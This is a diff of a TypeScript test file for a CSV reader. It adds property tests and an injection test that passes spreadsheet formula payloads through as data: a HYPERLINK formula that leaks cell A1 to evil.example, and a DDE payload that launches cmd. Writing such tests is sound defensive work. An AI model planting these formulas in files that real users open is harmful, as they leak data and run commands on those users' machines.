@@ -1,4 +1,5 @@
 /** The station's CSV reader (RFC 4180 §2) and its separator guess. */
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { guessSeparator, readCsv } from '../../../electron/core/csv.js';
 
@@ -23,7 +24,8 @@ describe('readCsv (RFC 4180 §2)', () => {
     const text = '"x, y","say ""hi"""\r\n"multi\r\nline\nbreaks",z\nlast,"row"';
     expect(readCsv(text)).toEqual([
       { line: 1, fields: ['x, y', 'say "hi"'] },
-      { line: 2, fields: ['multi\r\nline\nbreaks', 'z'] },
+      // Every line break reads as LF, inside fields too.
+      { line: 2, fields: ['multi\nline\nbreaks', 'z'] },
       { line: 5, fields: ['last', 'row'] },
     ]);
   });
@@ -56,5 +58,48 @@ describe('guessSeparator', () => {
     expect(guessSeparator('\uFEFFid;name\n')).toBe(';');
     expect(guessSeparator('id,name;x\n')).toBe(',');
     expect(guessSeparator('id\n')).toBe(',');
+  });
+});
+
+describe('readCsv on hostile files (csv-parse underneath)', () => {
+  /** RFC 4180 text of `records`, every field quoted. */
+  const write = (records: string[][], eol: string) => records.map((r) => r.map((f) => `"${f.replace(/"/g, '""')}"`).join(',')).join(eol) + eol;
+
+  test('any records written as RFC 4180 read back field for field, each on the line it starts on', () => {
+    const field = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', ';', '"', '\n', '=', 'é', '\u0000') });
+    fc.assert(
+      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 5 }), { maxLength: 8 }), fc.constantFrom('\n', '\r\n', '\r'), (records, eol) => {
+        // A record that is one empty field is a blank line: skipped by design.
+        const kept = records.filter((r) => !(r.length === 1 && r[0] === ''));
+        let line = 1;
+        const expected = kept.map((fields) => {
+          const start = line;
+          line += 1 + fields.join('').split('\n').length - 1;
+          return { line: start, fields };
+        });
+        expect(readCsv(write(kept, eol))).toEqual(expected);
+      }),
+    );
+  });
+
+  test('injection attempts stay data: formulas are text, quotes cannot add a column or a record', () => {
+    const text = [
+      'given_name,surname',
+      '=HYPERLINK("http://evil.example/?"&A1;"x"),@SUM(1+1)',
+      '"Ada"",""Evil",+cmd|\' /C calc\'!A0',
+      '"two\nlines, one field","-2+3"',
+      '\'quoted\'\t,"x"',
+    ].join('\r\n');
+    expect(readCsv(text)).toEqual([
+      { line: 1, fields: ['given_name', 'surname'] },
+      { line: 2, fields: ['=HYPERLINK("http://evil.example/?"&A1;"x")', '@SUM(1+1)'] },
+      { line: 3, fields: ['Ada","Evil', "+cmd|' /C calc'!A0"] },
+      { line: 4, fields: ['two\nlines, one field', '-2+3'] },
+      { line: 6, fields: ["'quoted'\t", 'x'] },
+    ]);
+  });
+
+  test('an unclosed quote after blank lines names the line its record starts on', () => {
+    expect(() => readCsv('a,b\n\n\nc,"open\nmore\n')).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', details: { line: 4 } }));
   });
 });
